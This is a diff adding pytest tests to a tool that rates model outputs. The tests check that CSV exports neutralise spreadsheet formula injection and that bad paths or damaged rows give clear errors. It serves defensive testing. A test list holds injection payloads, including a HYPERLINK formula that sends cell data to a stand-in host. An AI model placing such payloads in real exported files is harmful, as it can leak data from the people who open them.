@@ -5,6 +5,7 @@ from __future__ import annotations
 
 import csv
 import json
+import sqlite3
 
 import pytest
 from typer.testing import CliRunner
@@ -164,3 +165,102 @@ def test_items_from_study(tmp_path):
     assert run(["rate", "create-campaign", "study pairs", "--study", str(root), "--kind", "pairwise",
                 "--systems", "base,dpo", "--db", str(db_path)]) == 0
     assert db.connect(db_path).execute("SELECT COUNT(*) FROM items").fetchone()[0] == 2
+
+
+# ---- issue #15: defect 1 (formula injection) and 5 (malformed data) -----------------------------------
+
+FORMULAS = ['=HYPERLINK("http://x/?"&B2,"click")', "+1+1", "-2+3", "@SUM(A1)", "\tx", "\rcmd", "'=already"]
+
+
+def test_likert_csv_cells_cannot_run_as_formulas(tmp_path):
+    from clinalign.rate.export import plain_cell, safe_cell
+
+    con = db.init_db(tmp_path / "f.sqlite")
+    db.create_campaign(con, "likert", "likert", [LikertItem(id="-5", source="n", output="s", system="=sys")])
+    item_id = con.execute("SELECT id FROM items").fetchone()[0]
+    db.add_rater(con, "=evil()")
+    rid = con.execute("SELECT id FROM raters WHERE name='=evil()'").fetchone()[0]
+    others = [db.add_rater(con, f"r{i}") and con.execute("SELECT id FROM raters WHERE name=?", (f"r{i}",)).fetchone()[0]
+              for i in range(len(FORMULAS))]
+    db.save_rating(con, rid, db.Slot(1, item_id, False), 2, None, "nul\x00byte")
+    for r, comment in zip(others, FORMULAS, strict=True):
+        db.save_rating(con, r, db.Slot(1, item_id, False), 4, None, comment)
+    out = tmp_path / "likert.csv"
+    assert export_likert_csv(con, out) == 8
+    raw = out.read_bytes()
+    assert b"\x00" not in raw
+    with open(out, newline="") as f:
+        rows = list(csv.DictReader(f))
+    comments = {r["rater"]: r["comment"] for r in rows}
+    assert comments["'=evil()"] == "nulbyte"
+    assert [comments[f"r{i}"] for i in range(len(FORMULAS))] == ["'" + c for c in FORMULAS]
+    for row in rows:
+        for k in ("item_id", "system", "rater", "comment", "task", "campaign"):
+            assert not row[k].startswith(("=", "+", "-", "@", "\t", "\r")), (k, row[k])
+    assert (rows[0]["item_id"], rows[0]["system"]) == ("'-5", "'=sys")
+    assert load_likert_csv(out) == {("-5", "=sys"): pytest.approx((2 + 4 * 7) / 8)}  # read back as written
+    for v in [*FORMULAS, "plain", "'quoted", "''=x", ""]:
+        assert plain_cell(safe_cell(v)) == v
+
+
+@pytest.mark.parametrize("column,value,needle", [
+    ("payload", "not json {", "payload: not JSON"),
+    ("payload", "[1, 2]", "payload: expected a JSON object, got list"),
+    ("payload", '{"id": "p0", "output_a": "A", "output_b": "B", "system_a": "s", "system_b": "d"}',
+     "payload: prompt: field required"),
+])
+def test_export_of_a_damaged_item_row_is_one_clear_line(voted, capsys, column, value, needle):
+    con, tmp = voted
+    item_id = con.execute("SELECT id FROM items WHERE ext_id='p0'").fetchone()[0]
+    con.execute(f"UPDATE items SET {column} = ? WHERE id = ?", (value, item_id))
+    out = tmp / "p.jsonl"
+    assert run(["rate", "export", "--db", str(tmp / "r.sqlite"), "--pairs", str(out)]) == 2
+    err = capsys.readouterr().err
+    assert err.count("\n") == 1 and f"r.sqlite: items row {item_id}: {needle}" in err, err
+    assert "Traceback" not in err and not out.exists()
+
+
+def test_export_of_a_text_updated_at_is_one_clear_line(tmp_path, capsys):
+    con = _likert_db(tmp_path)
+    rid = con.execute("SELECT id FROM ratings ORDER BY id LIMIT 1").fetchone()[0]
+    con.execute("UPDATE ratings SET updated_at = 'yesterday' WHERE id = ?", (rid,))
+    assert run(["rate", "export", "--db", str(tmp_path / "l.sqlite"), "--likert", str(tmp_path / "l.csv")]) == 2
+    err = capsys.readouterr().err
+    assert f"ratings row {rid}: updated_at: expected a number" in err and err.count("\n") == 1
+
+
+def test_export_paths_and_database_files_are_checked(tmp_path, voted, capsys):
+    _, tmp = voted
+    dbp = str(tmp / "r.sqlite")
+    (tmp / "adir").mkdir()
+    cases = [
+        (["--db", dbp, "--likert", str(tmp / "adir")], "adir: is a directory; give a file name"),
+        (["--db", dbp, "--pairs", str(tmp / "nowhere" / "p.jsonl")], "folder " + str(tmp / "nowhere") + " does not exist"),
+    ]
+    empty = tmp / "empty.sqlite"
+    empty.write_bytes(b"")
+    other = tmp / "other.sqlite"
+    sqlite3.connect(other).execute("CREATE TABLE t (x)").connection.commit()
+    cases += [(["--db", str(empty), "--pairs", str(tmp / "p.jsonl")], "empty.sqlite: empty file, not a ratings database"),
+              (["--db", str(other), "--pairs", str(tmp / "p.jsonl")], "other.sqlite: not a ratings database (no "),
+              (["--db", str(tmp / "adir"), "--pairs", str(tmp / "p.jsonl")], "adir: is a directory, not a ratings")]
+    for args, needle in cases:
+        assert run(["rate", "export", *args]) == 2, args
+        err = capsys.readouterr().err
+        assert needle in err and err.count("\n") == 1, err
+    assert not (tmp / "nowhere").exists() and empty.stat().st_size == 0
+    assert not (tmp / "p.jsonl").exists()
+    assert {r[0] for r in sqlite3.connect(other).execute("SELECT name FROM sqlite_master")} == {"t"}
+
+
+def test_rate_commands_that_create_a_database_refuse_bad_paths(tmp_path, capsys):
+    empty = tmp_path / "empty.sqlite"
+    empty.write_bytes(b"")
+    for db_arg, needle in ((empty, "empty file, not a ratings database"),
+                           (tmp_path / "no" / "r.sqlite", f"folder {tmp_path / 'no'} does not exist"),
+                           (tmp_path, "is a directory")):
+        assert run(["rate", "add-rater", "x", "--db", str(db_arg)]) == 2
+        err = capsys.readouterr().err
+        assert needle in err and err.count("\n") == 1, err
+    assert empty.stat().st_size == 0 and not (tmp_path / "no").exists()
+    assert run(["rate", "add-rater", "x", "--db", str(tmp_path / "new.sqlite")]) == 0  # a new file is fine
